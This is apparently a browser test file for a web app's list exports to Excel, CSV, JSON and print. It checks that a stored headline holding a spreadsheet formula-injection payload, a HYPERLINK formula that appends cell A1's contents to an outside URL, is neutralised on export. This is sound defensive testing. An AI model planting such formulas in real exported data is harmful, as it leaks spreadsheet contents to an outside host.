"""A list taken along: from its menu into Excel, CSV, JSON and on paper, as the page shows it."""

import csv
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Page, expect

from tests.browser.conftest import Visitor

FORMULA = '=HYPERLINK("http://example.org/?x="&A1,"Look here")'


def take(page: Page, label: str, folder: Path) -> Path:
    """Download the list by the menu of its page."""
    page.locator("summary", has_text="Export").click()
    with page.expect_download() as waiting:
        page.get_by_role("link", name=label, exact=True).click()
    path = folder / waiting.value.suggested_filename
    waiting.value.save_as(path)
    page.locator("summary", has_text="Export").click()
    return path


def shown(page: Page) -> int:
    """How many rows the page says it has."""
    text = page.locator("p[role=status]").first.inner_text()
    return int(text.split()[0].replace(",", "").replace("\u202f", ""))


@pytest.fixture
def page(visitor: Visitor) -> Page:
    """The lessons of one phase, one of them with a formula for a headline."""
    page = visitor.sign_in("pm")
    page.goto("/lessons/new?all=1")
    page.get_by_label("Headline").fill(FORMULA)
    page.get_by_label("What happened?").fill("A spreadsheet was opened.")
    page.get_by_label("Phase").select_option("closing")
    page.get_by_role("button", name="Save as a draft").click()
    expect(page.get_by_text("Saved.")).to_be_visible()
    page.goto("/lessons/?phase=closing")
    return page


def test_lessons_leave_as_the_page_shows_them(page: Page, tmp_path: Path) -> None:
    many = shown(page)
    sheet = load_workbook(take(page, "Excel", tmp_path)).active
    names = [cell.value for cell in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2))
    assert (len(rows), sheet.freeze_panes) == (many, "A2")
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(many + 1, len(names)).coordinate}"
    assert {row[names.index("phase")].value for row in rows} == {"closing"}
    mine = next(row for row in rows if row[names.index("headline")].value == FORMULA)
    assert mine[names.index("headline")].data_type == "s"
    assert mine[names.index("headline")].quotePrefix
    link = mine[names.index("link")].hyperlink
    assert link is not None
    page.goto(link.target)
    expect(page.locator("h1")).to_have_text(FORMULA)

    page.goto("/lessons/?phase=closing")
    text = take(page, "CSV", tmp_path).read_bytes()
    assert text.startswith(b"\xef\xbb\xbf")
    lines = list(csv.DictReader(text.decode("utf-8-sig").splitlines()))
    assert len(lines) == many
    assert f"'{FORMULA}" in {line["headline"] for line in lines}
    items = json.loads(take(page, "JSON", tmp_path).read_text())
    assert len(items) == many
    assert FORMULA in {item["headline"] for item in items}

    page.locator("summary", has_text="Export").click()
    page.get_by_role("link", name="To print").click()
    expect(page.locator("h1")).to_have_text("Lessons")
    expect(page.get_by_text("phase: closing")).to_be_visible()
    assert page.locator("tbody tr").count() == many
    page.emulate_media(media="print")
    expect(page.get_by_role("button", name="Print")).to_be_hidden()


@pytest.mark.parametrize(
    ("path", "heading"),
    [
        ("/projects/", "Projects"), ("/issues/", "Issues"), ("/search?q=supplier", "Findings"),
        ("/themes/", "Themes"), ("/library/", "Templates"), ("/playbooks/", "Playbook pages"),
        ("/requests/", "Content requests"),
    ],
)  # fmt: skip
def test_every_list_has_the_menu(path: str, heading: str, visitor: Visitor, tmp_path: Path) -> None:
    page = visitor.sign_in("pm")
    page.goto(path)
    sheet = load_workbook(take(page, "Excel", tmp_path)).active
    assert sheet.title == heading
    page.locator("summary", has_text="Export").click()
    page.get_by_role("link", name="To print").click()
    expect(page.locator("h1")).to_have_text(heading)
    assert page.locator("tbody tr").count() == min(500, sheet.max_row - 1)
